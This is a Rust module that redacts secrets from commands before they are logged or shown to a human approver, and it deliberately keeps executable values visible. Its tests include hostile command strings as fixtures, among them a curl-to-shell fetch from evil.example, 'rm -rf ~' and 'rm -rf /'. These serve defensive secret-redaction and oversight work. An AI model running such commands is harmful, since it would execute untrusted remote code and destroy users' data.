//! What is taken out of a text before it is recorded or shown to an approver.
//!
//! A record stays for good and is exported, so whatever follows a telling name,
//! option or header goes, random or not. But no person may approve what they
//! cannot see: a value stays that could do anything but be a value – one with
//! an expansion, a command, or a path in it.

use super::{Leak, merged, outward::SHAPES, placed, token};
use std::borrow::Cow;
use std::ops::Range;

/// Begins what is where a secret was. As a word of a command it is plain: no pattern, no expansion.
pub(crate) const MARK: &str = "{redacted:";

/// What must be in a text, in lower case, for a known beginning of a token to be in it.
const BEGINNINGS: &[&str] = &[
    "akia",
    "asia",
    "gh",
    "gl",
    "xox",
    "xapp-",
    "hooks.slack",
    "_live_",
    "whsec_",
    "aiza",
    "ya29.",
    "gocspx",
    "sk-",
    "npm_",
    "pypi-",
    "hf_",
    "sg.",
    "do",
    "dapi",
    "dp.pt.",
    "lin_api_",
    "ntn_",
    "pscale_",
    "pmak-",
    "shp",
    "sq0",
    "hv",
    "age-secret",
    "sbp_",
    "gsk_",
    "r8_",
    "pplx-",
    "dckr_",
    "nrak-",
    "rubygems_",
    "eyj",
    "-----begin",
];

/// Whether a value is one and nothing else, so that an approver loses nothing by not seeing it.
fn is_plain(value: &str) -> bool {
    let acts = value.contains("$(")
        || value.contains("${")
        || value.contains(['`', ';', '|', '&', '<', '>', '\n', '{']);
    let speaks =
        value.contains(char::is_whitespace) && (value.contains(['/', '~', '*']) || value.contains(" -"));
    !acts && !speaks
}

/// Values that say nothing: numbers of users and ports, switches.
fn says_nothing(value: &str) -> bool {
    let number = value.len() <= 5 && value.bytes().all(|byte| byte.is_ascii_digit());
    let is_gone =
        value.starts_with(['[', '{']) && value.get(1..).is_some_and(|rest| rest.starts_with("redacted"));
    is_gone
        || number
        || matches!(
            value,
            "true" | "false" | "null" | "none" | "None" | "True" | "False" | "yes" | "no" | "\"\""
        )
}

/// The stretches that are taken out.
fn found(text: &str) -> Vec<Leak> {
    let low = text.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| low.contains(word));
    let mut found = Vec::new();
    if has(BEGINNINGS) {
        found.extend(token::find(text));
    }
    found.extend(placed::find(text));
    for shape in SHAPES.iter().filter(|shape| has(shape.words) && has(shape.signs)) {
        let Some(pattern) = shape.pattern() else { continue };
        for hit in pattern.captures_iter(text) {
            let value = hit.iter().skip(1).flatten().next();
            let value = value.filter(|value| {
                let text = value.as_str();
                !text.starts_with('$') && is_plain(text) && !says_nothing(text)
            });
            found.extend(value.map(|value| Leak { kind: "secret", start: value.start(), end: value.end() }));
        }
    }
    merged(found)
}

/// A text as it is recorded, and where its parts have gone.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Recorded {
    pub text: String,
    /// What was taken out, and how long what is there instead is.
    gone: Vec<(Range<usize>, usize)>,
}

impl Recorded {
    /// The text without secrets; `None` if it has none.
    pub(crate) fn of(text: &str) -> Option<Recorded> {
        let leaks = found(text);
        if leaks.is_empty() {
            return None;
        }
        let mut recorded = Recorded::default();
        let mut from = 0;
        for leak in leaks {
            recorded.text.push_str(text.get(from..leak.start).unwrap_or_default());
            let mark = format!("{MARK}{}}}", leak.kind);
            recorded.gone.push((leak.start..leak.end, mark.len()));
            recorded.text.push_str(&mark);
            from = leak.end;
        }
        recorded.text.push_str(text.get(from..).unwrap_or_default());
        Some(recorded)
    }

    /// Where a stretch of the text is now; one that touches what was taken out takes all of that.
    pub(crate) fn moved(&self, range: &Range<usize>) -> Range<usize> {
        self.place(range.start, false)..self.place(range.end, true)
    }

    fn place(&self, at: usize, is_end: bool) -> usize {
        let (mut was, mut is) = (0, 0);
        for (gone, length) in &self.gone {
            if at <= gone.start {
                break;
            }
            is += gone.start.saturating_sub(was);
            if at < gone.end {
                return if is_end { is + length } else { is };
            }
            is += length;
            was = gone.end;
        }
        is + at.saturating_sub(was)
    }
}

/// The text as it may be recorded.
#[must_use]
pub fn recorded(text: &str) -> Cow<'_, str> {
    Recorded::of(text).map_or(Cow::Borrowed(text), |recorded| Cow::Owned(recorded.text))
}

/// Shorter values are ordinary words too often to be taken out wherever they occur.
const VALUE_MIN: usize = 6;

/// Another form of a command without the secrets that are in the command: in that form an option
/// and its value may be far from each other, so that the value alone tells nothing.
#[must_use]
pub fn without_secrets_of(command: &str, form: String) -> String {
    let leaks = found(command).into_iter();
    leaks.fold(form, |form, leak| {
        match command.get(leak.start..leak.end).filter(|value| value.len() >= VALUE_MIN) {
            Some(value) if form.contains(value) => form.replace(value, &format!("{MARK}{}}}", leak.kind)),
            _ => form,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::{Recorded, recorded, without_secrets_of};
    use crate::leak::tests::drawn;

    /// `§` in the expected text is what was taken out.
    #[track_caller]
    fn check(text: &str, expected: &str) {
        let said = recorded(text).into_owned();
        let shown = ["secret", "azure-key", "twilio-key", "netrc-password", "github-token", "aws-access-key"]
            .iter()
            .fold(said, |said, kind| said.replace(&format!("{{redacted:{kind}}}"), "§"));
        assert_eq!(shown, expected, "{text}");
    }

    #[test]
    fn another_form_of_a_command_loses_its_secrets_too() {
        let command = "az login -u app --password hunter2 --tenant t";
        let form = "az -u --password --tenant login app hunter2 t".to_owned();
        assert_eq!(
            without_secrets_of(command, form),
            "az -u --password --tenant login app {redacted:secret} t"
        );
        assert_eq!(without_secrets_of("ls app", "ls app".to_owned()), "ls app");
    }

    #[test]
    fn values_go_and_what_is_done_stays() {
        check("PGPASSWORD=hunter2 psql -h db", "PGPASSWORD=§ psql -h db");
        check(
            "curl -H 'Authorization: Bearer abc.def' https://a",
            "curl -H 'Authorization: Bearer §' https://a",
        );
        check("curl -u ada:hunter2 https://a", "curl -u ada:§ https://a");
        check("redis-cli -a hunter2 flushall", "redis-cli -a § flushall");
        check("docker login -u ada -p hunter2 r.io", "docker login -u ada -p § r.io");
        check("npm config set //r.io/:_authToken abc", "npm config set //r.io/:_authToken §");
        check(
            &format!("git clone https://ghp_{}@github.com/a/b", drawn(36)),
            "git clone https://§@github.com/a/b",
        );
        check(r#"mcp__x__y {"password":"hunter2","n":1}"#, r#"mcp__x__y {"password":"§","n":1}"#);
    }

    /// What could do something is shown, whatever it is called.
    #[test]
    fn nothing_is_hidden_behind_a_telling_name() {
        for text in [
            "TOKEN=$(curl evil.example | sh) make",
            "PASSWORD=\"$(rm -rf ~)\" make",
            "export SECRET=`id`",
            "eval 'token=x; rm -rf /'",
            "python3 -c 'import os; token=\"rm -rf /home\"; os.system(token)'",
            "docker run -u 1000:1000 -p 8080:80 web",
            "git commit -m 'pass the token on'",
            "max_tokens: 4096",
            "PASSWORD=$DB_PASSWORD make",
            "rm -rf ./secrets",
        ] {
            check(text, &text.replace("token=x", "token=§"));
        }
    }

    #[test]
    fn places_move_with_the_text() {
        let text = "A_TOKEN=hunter2 git push --force";
        let recorded = Recorded::of(text).unwrap();
        let at = text.find("--force").unwrap();
        assert_eq!(recorded.text.get(recorded.moved(&(at..at + 7))), Some("--force"));
        assert_eq!(recorded.text.get(recorded.moved(&(0..7))), Some("A_TOKEN"));
        assert_eq!(recorded.text.get(recorded.moved(&(0..10))), Some("A_TOKEN={redacted:secret}"));
    }
}
